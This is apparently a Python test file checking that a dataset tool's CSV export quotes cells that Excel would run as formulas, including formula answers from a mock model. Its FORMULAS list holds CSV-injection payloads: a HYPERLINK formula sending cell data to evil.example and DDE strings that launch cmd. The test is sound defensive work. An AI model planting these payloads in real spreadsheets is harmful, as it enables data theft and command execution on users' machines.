"""CSV for Excel never carries a formula from a file or a model's answer: a cell that a spreadsheet would run
(starting with = + - @, tab or carriage return) gets a leading quote, as OWASP recommends; numbers stay numbers."""

import csv
import io
import json

import openai

from core.dataset.cells import save_csv
from core.dataset.io import read_rows
from core.dataset.model import Format, Row
from core.evaluate import cases_from_rows, outcomes_csv, run_cases, save_outcomes
from tests.servers import QuietHandler, serve

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+2", "\r=1+2"]
NUMBERS = ["-5", "+3.5", "-0.25e3", "42"]


def read_back(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def test_dataset_cells_from_a_file_are_exported_without_formulas(tmp_path):
    source = tmp_path / "hostile.jsonl"
    source.write_text("".join(json.dumps({"messages": [{"role": "user", "content": value},
                                                       {"role": "assistant", "content": "ok"}]}) + "\n"
                              for value in FORMULAS + NUMBERS + ["=", "plain - text"]), encoding="utf-8")
    rows, _ = read_rows(source)
    target = tmp_path / "for-excel.csv"
    save_csv(target, rows, Format.CHAT)
    cells = [record[1] for record in read_back(target.read_bytes().decode("utf-8"))[1:]]
    assert cells == ["'" + value for value in FORMULAS] + NUMBERS + ["'=", "plain - text"]


def hostile_model(answers: list[str]) -> type[QuietHandler]:
    """A chat endpoint whose answers are formulas, one per question, in order of the question's number."""

    class Handler(QuietHandler):
        def do_POST(self) -> None:
            body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
            question = body["messages"][-1]["content"]
            data = json.dumps({"id": "c", "object": "chat.completion", "created": 0, "model": body["model"],
                               "choices": [{"index": 0, "finish_reason": "stop", "message": {
                                   "role": "assistant", "content": answers[int(question.split()[-1])]}}]}).encode()
            self.reply(200, data)


    return Handler


async def test_validation_results_with_a_models_formula_answers_are_exported_as_text(tmp_path):
    answers = FORMULAS + NUMBERS
    rows = [Row(i + 1, {"messages": [{"role": "user", "content": f"question {i}"},
                                     {"role": "assistant", "content": "-1"}]}) for i in range(len(answers))]
    model = "=cmd|' /C calc'!A0"
    with serve(hostile_model(answers)) as origin:
        async with openai.AsyncOpenAI(api_key="k", base_url=origin + "/v1", max_retries=0) as client:
            outcomes = await run_cases(client, cases_from_rows(rows), [model], lambda *_: None)
    path = tmp_path / "results.csv"
    save_outcomes(path, outcomes, [model])
    for records in (read_back(path.read_bytes().decode("utf-8")), read_back(outcomes_csv(outcomes, [model]))):
        assert records[0][2:] == ["'" + model + " answer", "'" + model + " similarity"]
        by_question = {record[0]: record for record in records[1:]}
        assert [by_question[f"question {i}"][2] for i in range(len(answers))] == \
            ["'" + value for value in FORMULAS] + NUMBERS
        assert {record[1] for record in records[1:]} == {"-1"}  # the expected answer, a plain number
        assert all(float(record[3]) >= 0 for record in records[1:])  # scores are numbers, not quoted
